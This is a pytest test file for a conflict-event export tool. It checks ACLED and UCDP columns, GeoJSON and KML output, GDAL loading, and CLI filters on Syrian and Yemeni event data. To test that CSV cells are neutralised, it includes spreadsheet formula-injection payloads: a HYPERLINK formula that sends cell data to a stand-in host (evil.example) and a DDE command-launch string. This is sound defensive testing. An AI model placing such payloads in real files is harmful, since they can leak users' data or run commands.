"""Exports analysts can load: ACLED's columns, UCDP GED's, GeoJSON and KML that GDAL opens,
and no CSV cell a spreadsheet would run."""
import csv
import io
import json
import xml.etree.ElementTree as ET

import pandas as pd
import pytest

from events.export import CSV_COLUMNS, safe_cell, table_csv, to_csv, to_geojson, to_kml, to_ucdp
from events.export_rows import ACLED_COLUMNS, UCDP_COLUMNS, Source
from events.model import Actor, Article, Claim, Event, Evidence, Place
from events.store import Store

RAQQA = Place("Raqqa", "الرقة", 35.9528, 39.0079, "populated_place", "Ar-Raqqah", "SY", 1, 1)
TADMUR = Place("Tadmur", "تدمر", 34.5601, 38.2805, "populated_place", "Homs", "SY", 1, 1)
KML = "{http://www.opengis.net/kml/2.2}"
MOD = "Russian Ministry of Defence"
SOURCES = {"a": Source(outlet="RIA", url="https://example.org/a", title="Strikes",
                       ingested_at="2017-06-03T10:00:00+00:00")}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def events() -> list[Event]:
    move = Event(article_id="a", event_id="a:1", event_type="movement", date_start="2017-05-29",
                 date_end="2017-05-30", date_prec=2, origin=RAQQA, destination=TADMUR,
                 actors=[Actor("Islamic State", "داعش", "actor1", "داعش")],
                 evidence=[Evidence("غادرت 3 قوافل <b>الرقة</b> & تدمر", 0, 30)])
    strike = Event(article_id="a", event_id="a:2", event_type="airstrike", date_start="2017-05-31",
                   date_end="2017-06-01", date_prec=2, time_precision=2, location=RAQQA,
                   actors=[Actor("Russian Aerospace Forces", None, "actor1", "الطيران الروسي"),
                           Actor("Islamic State", None, "actor2", "داعش")],
                   claimant=MOD,
                   claims=[Claim("killed", "fighters", "more_than", 80, None, None, "أكثر من 80",
                                 0, 9, MOD)])
    undated = Event(article_id="a", event_id="a:3", event_type="statement")
    return [move, strike, undated]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_acled_csv_has_every_acled_column_in_order_then_atharis_own():
    header = next(csv.reader(io.StringIO(to_csv(events(), SOURCES))))
    assert header[:len(ACLED_COLUMNS)] == [
        "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
        "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2",
        "inter2", "interaction", "civilian_targeting", "iso", "region", "country", "admin1",
        "admin2", "admin3", "location", "latitude", "longitude", "geo_precision", "source",
        "source_scale", "notes", "fatalities", "tags", "timestamp"]
    assert {"article_url", "claimant", "qualifier", "low", "best", "high", "modality",
            "date_start", "date_end", "evidence"} <= set(header[len(ACLED_COLUMNS):])


def test_acled_codes_and_a_lower_bound_that_stays_a_lower_bound():
    strike = csv_rows(to_csv(events(), SOURCES))[1]
    assert (strike["event_type"], strike["sub_event_type"], strike["disorder_type"]) == \
        ("Explosions/Remote violence", "Air/drone strike", "Political violence")
    assert strike["event_date"] == "2017-05-31" and strike["year"] == "2017"  # mid of 2 days
    assert (strike["actor1"], strike["actor2"]) == ("Russian Aerospace Forces", "Islamic State")
    assert (strike["inter1"], strike["inter2"], strike["interaction"]) == ("1", "2", "12")
    assert (strike["iso"], strike["country"], strike["region"]) == ("760", "Syria",
                                                                    "Middle East")
    assert (strike["source"], strike["article_url"]) == ("RIA", "https://example.org/a")
    assert strike["timestamp"] == "1496484000"
    assert strike["fatalities"] == "80"  # ACLED's conservative figure…
    assert (strike["qualifier"], strike["low"], strike["best"]) == ("more_than", "80", "")
    assert "80+" in strike["notes"] and MOD in strike["notes"]  # …read as "80+"
    assert csv_rows(to_csv(events(), SOURCES))[0]["fatalities"] == "0"  # none reported


def test_the_ucdp_csv_has_sides_deaths_and_precisions():
    header = next(csv.reader(io.StringIO(to_ucdp(events(), SOURCES))))
    assert header == UCDP_COLUMNS
    move, strike, undated = csv_rows(to_ucdp(events(), SOURCES))
    assert (strike["type_of_violence"], strike["side_a"], strike["side_b"]) == \
        ("1", "Russian Aerospace Forces", "Islamic State")
    assert (strike["deaths_b"], strike["best"], strike["low"], strike["high"]) == \
        ("80", "80", "80", "")
    assert (strike["where_prec"], strike["where_coordinates"], strike["adm_1"]) == \
        ("1", "Raqqa", "Ar-Raqqah")
    assert (strike["date_prec"], strike["date_start"], strike["date_end"]) == \
        ("2", "2017-05-31", "2017-06-01")
    assert strike["source_article"] == "RIA; https://example.org/a"
    assert move["type_of_violence"] == "" and undated["where_prec"] == ""  # no violence, no place


def test_no_csv_cell_starts_a_formula_but_numbers_stay_numbers():
    ev = events()[1]
    ev.actors[0].name, ev.claimant, ev.location = "+cmd|' /C calc'!A0", "@SUM(1+1)", Place(
        "-2+3", lat=-33.9, lon=-70.6)
    ev.evidence = [Evidence(HOSTILE, 0, len(HOSTILE))]
    text = to_csv([ev]) + to_ucdp([ev])
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c and (c[0] in "=+@" or c[0] == "-" and not _number(c))]
    assert "-33.9" in cells and "-70.6" in cells  # coordinates are numbers, not text


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_the_dashboards_tables_go_through_the_same_neutraliser():
    frame = pd.DataFrame({"title": ["=1+1", "ok"], "count": [-3, 2], "outlet": ["@x", None]})
    assert table_csv(frame) == "title,count,outlet\n'=1+1,-3,'@x\nok,2,\n"
    assert safe_cell("\t=cmd") == "'\t=cmd" and safe_cell(True) == "true"


def test_geojson_has_flat_properties_lon_first_lines_and_null_geometries():
    fc = json.loads(to_geojson(events(), SOURCES))
    move, strike, undated = fc["features"]
    assert move["geometry"] == {"type": "LineString",
                                "coordinates": [[39.0079, 35.9528], [38.2805, 34.5601]]}
    assert strike["geometry"] == {"type": "Point", "coordinates": [39.0079, 35.9528]}
    assert undated["geometry"] is None
    assert list(strike["properties"]) == CSV_COLUMNS
    assert strike["properties"]["fatalities"] == 80 and strike["properties"]["best"] is None
    nested = json.loads(to_geojson(events(), SOURCES, nested=True))["features"][1]
    assert nested["properties"]["claims"][0]["qualifier"] == "more_than"


def test_kml_has_timespans_extended_data_for_every_field_and_escapes_article_text():
    root = ET.fromstring(to_kml(events(), SOURCES).encode())
    marks = root.findall(f".//{KML}Placemark")
    assert len(marks) == 3
    span = marks[0].find(f"{KML}TimeSpan")
    assert (span.find(f"{KML}begin").text, span.find(f"{KML}end").text) == \
        ("2017-05-29", "2017-05-30")
    assert marks[0].find(f"{KML}LineString") is not None
    assert "<b>الرقة</b> & تدمر" in marks[0].find(f"{KML}description").text
    data = {d.get("name"): d.text for d in marks[1].iter(f"{KML}SimpleData")}
    assert list(data) == CSV_COLUMNS
    assert (data["fatalities"], data["qualifier"], data["iso"]) == ("80", "more_than", "760")


# --- GDAL opens them ----------------------------------------------------------------------------

def test_gdal_opens_the_geojson_and_kml_and_lists_the_flat_fields(tmp_path):
    pyogrio = pytest.importorskip("pyogrio")
    for name, text in (("events.geojson", to_geojson(events(), SOURCES)),
                       ("events.kml", to_kml(events(), SOURCES))):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        info = pyogrio.read_info(path)
        fields = list(info["fields"])
        assert {"event_id_cnty", "event_date", "fatalities", "qualifier", "latitude",
                "article_url", "evidence"} <= set(fields), (name, fields)
        assert set(CSV_COLUMNS) <= set(fields), (name, set(CSV_COLUMNS) - set(fields))
        assert info["features"] == 3, name
        _, _, geometry, values = pyogrio.raw.read(path)
        row = dict(zip(fields, [column[1] for column in values]))
        assert row["actor1"] == "Russian Aerospace Forces" and int(row["fatalities"]) == 80


# --- the CLI: the dashboard's filters -------------------------------------------------------------

@pytest.fixture
def exported(db_url, cli):
    store = Store(db_url)
    store.save(Article("a", "x" * 40, title="Strikes", outlet="RIA", url="https://e.org/a"),
               events(), "test")
    far = Event(article_id="b", event_type="clash", date_start="2015-07-10",
                date_end="2015-07-10", location=Place("Aden", lat=12.78, lon=45.04, country="YE"),
                actors=[Actor("Houthis")], evidence=[Evidence(HOSTILE, 0, len(HOSTILE))])
    recalled = Event(article_id="b", event_type="attack", date_start="1994-04-07",
                     date_end="1994-04-07", location=RAQQA, background=True,
                     evidence=[Evidence("history", 50, 57)])
    store.save(Article("b", "y" * 60, title="Aden", outlet="Okaz"), [far, recalled], "test")

    def run(*args: str) -> list[dict[str, str]]:
        result = cli("export", "--db", db_url, *args)
        assert result.returncode == 0, result.stderr
        return csv_rows(result.stdout)
    return run


def test_export_takes_the_dashboards_filters(exported):
    assert len(exported()) == 4  # history mentioned in passing is left out by default
    assert len(exported("--include-background")) == 5
    assert {r["athar_event_type"] for r in exported("--since", "2017-05-30", "--until",
                                                    "2017-05-31")} == {"movement", "airstrike",
                                                                       "statement"}
    assert [r["location"] for r in exported("--country", "ye")] == ["Aden"]
    assert [r["actor1"] for r in exported("--actor", "Houthis")] == ["Houthis"]
    assert {r["athar_event_type"] for r in exported("--type", "airstrike", "--type", "clash")} \
        == {"airstrike", "clash"}
    assert [r["location"] for r in exported("--bbox", "44,12,46,13")] == ["Aden"]
    assert exported("--country", "YE")[0]["evidence"] == "'" + HOSTILE  # neutralised
    assert "statement" not in {r["athar_event_type"] for r in exported("--exclude-undated")}


def test_export_formats_and_bad_filters(exported, cli, db_url, tmp_path):
    ucdp = cli("export", "--db", db_url, "--format", "ucdp", "--country", "SY")
    assert next(csv.reader(io.StringIO(ucdp.stdout))) == UCDP_COLUMNS
    out = tmp_path / "e.kml"
    assert cli("export", "--db", db_url, "--format", "kml", "--out", str(out)).returncode == 0
    assert len(ET.fromstring(out.read_bytes()).findall(f".//{KML}Placemark")) == 4
    for bad in (["--bbox", "46,12,44,13"], ["--since", "30/05/2017"], ["--type", "riot"]):
        result = cli("export", "--db", db_url, *bad)
        assert result.returncode == 2, bad
        assert result.stderr.strip().splitlines()[-1].startswith(
            "python -m events export: error: argument"), result.stderr
